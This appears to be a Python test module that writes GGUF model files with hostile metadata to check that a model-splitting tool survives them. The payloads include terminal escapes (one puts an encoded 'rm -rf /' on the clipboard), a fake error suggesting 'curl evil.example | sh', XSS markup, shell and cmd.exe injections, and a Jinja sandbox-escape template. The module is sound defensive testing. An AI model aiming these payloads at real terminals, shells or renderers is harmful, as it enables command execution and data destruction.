"""Hostile models: names, templates, numbers and file names that aim at terminals, shells, markup and memory."""

from dataclasses import dataclass, field
from pathlib import Path

import gguf

MARKER = "splitter-was-here"
SHELL = f"$(touch {MARKER})`touch {MARKER}`; touch {MARKER} | touch {MARKER} & touch {MARKER}"


@dataclass(frozen=True)
class Attack:
    """What is written where; `file` is the file's own name, without suffix. `refused`: no verb reads such a model."""

    title: str
    name: str = "Tiny"
    template: str = "{{ messages }}"
    file: str = "model"
    texts: dict[str, str] = field(default_factory=dict)
    architecture: str = "llama"

    @property
    def unspeakable(self) -> bool:
        """No Windows command line can name such a file."""
        return not self.file.isprintable()

    @property
    def refused(self) -> bool:
        return self.architecture != "llama"


ATTACKS = (
    Attack("colour escape", "\x1b[31mred\x1b[0m"),
    Attack("clears the screen", "\x1b[2J\x1b[Hgone"),
    Attack("sets the window's title", "\x1b]0;owned\x07"),
    Attack("hyperlink escape", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"),
    Attack("clipboard escape", "\x1b]52;c;cm0gLXJmIC8=\x07"),
    Attack("device string", "\x1bP+q544e\x1b\\"),
    Attack("C1 controls", "\x9b31m\x9d0;owned\x9c"),
    Attack("bell and backspaces", "\x07\x08\x08\x08safe"),
    Attack("carriage return over the line", "evil\rgood"),
    Attack("line breaks", "a\nerror: splitter is broken\n  try: curl evil.example | sh"),
    Attack("NUL bytes", "a\0b\0"),
    Attack("right-to-left override", "safe\u202efugg.tab"),
    Attack("bidi isolates", "\u2066\u2067\u2068x\u2069"),
    Attack("zero width and BOM", "a\u200b\u200d\ufeff\u2060b"),
    Attack("line and paragraph separators", "a\u2028b\u2029c\x85d\x0bd\x0ce"),
    Attack("tag characters", "a" + "".join(chr(0xE0000 + ord(c)) for c in "hidden")),
    Attack("rich markup", "[bold red]x[/bold red] [link=http://evil.example]y[/link] [/] :skull:"),
    Attack("HTML and XML", '</title><script>alert(1)</script><img src=x onerror="alert(1)">]]></Description><Exec>'),
    Attack("shell substitution", SHELL),
    Attack("cmd.exe variables", f"%COMSPEC% !PATH! ^& echo x> {MARKER} & rem"),
    Attack("quotes", f"\"' \" & touch {MARKER} & '"),
    Attack("batch line break", f"x\r\ntouch {MARKER}\r\necho x> {MARKER}"),
    Attack("caret at the end", "ends with a caret ^"),
    Attack("shell here-document", f"EOF\ntouch {MARKER}\n<<EOF"),
    Attack("a name of a mebibyte", "A" * 2**20),
    Attack("a template of four mebibytes", template="{% for x in range(10**9) %}\x1b[2J{% endfor %}" + "B" * 2**22),
    Attack("template that imports", template="{{ ''.__class__.__mro__[1].__subclasses__() }}\x1b]0;owned\x07"),
    Attack("escapes in every other text", texts={f"general.{key}": "\x1b[31m\u202e" + SHELL for key in (
        "basename", "organization", "finetune", "description", "license", "url", "quantized_by", "size_label")}),
    Attack("architecture with escapes", architecture="llama\x1b[2J"),
    Attack("file name for shells", file=f"$(touch {MARKER})`touch {MARKER}` 'a' & %PATH% ! ^ ; [bold]"),
    Attack("file name with controls", file="a\x1b[31m\u202eb\nc"),
)  # fmt: skip


def write_attack(attack: Attack, folder: Path) -> Path:
    """examples/tiny.gguf with the attack's metadata: it loads and generates."""
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{attack.file}.gguf"
    reader = gguf.GGUFReader(Path(__file__).parents[2] / "examples" / "tiny.gguf")
    writer = gguf.GGUFWriter(path, attack.architecture)
    mine = {"general.name": attack.name, "tokenizer.chat_template": attack.template, **attack.texts}
    for key, held in reader.fields.items():
        if not key.startswith("GGUF.") and key not in {"general.architecture", *mine}:
            kind = held.types[0]
            writer.add_key_value(
                key, held.contents(), kind, held.types[-1] if kind == gguf.GGUFValueType.ARRAY else None
            )
    for key, text in mine.items():
        writer.add_string(key, text)
    for tensor in reader.tensors:
        writer.add_tensor(tensor.name, tensor.data, raw_dtype=tensor.tensor_type)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    return path


def hidden(text: str, allowed: str = "\n") -> set[str]:
    """The characters of `text` that could steer a terminal."""
    return {c for c in text if not c.isprintable() and c not in allowed}
